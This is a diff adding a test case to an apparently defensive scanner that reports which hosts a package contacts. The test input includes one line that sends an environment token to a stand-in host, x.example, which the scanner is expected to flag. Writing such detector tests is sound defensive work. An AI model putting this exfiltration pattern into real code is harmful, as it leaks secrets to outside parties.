@@ -97,6 +97,14 @@ t.test('says what a package can do, once each, with the place', t => {
       [/contacts.*(?:post|accept)/i],
     ],
     [
+      'a file of a build is no host',
+      loaded(
+        "fetch('https://x.example/' + process.env.A_TOKEN)\nrequire('net').connect({ host: 'openssl.h', port: 1 })\n",
+      ),
+      ['contacts x.example'],
+      [/openssl\.h/],
+    ],
+    [
       'a downloader that knows its own addresses contacts them',
       installed(
         "const { downloadArtifact } = require('@electron/get')\ndownloadArtifact({ version: '1.0.0' })\n",
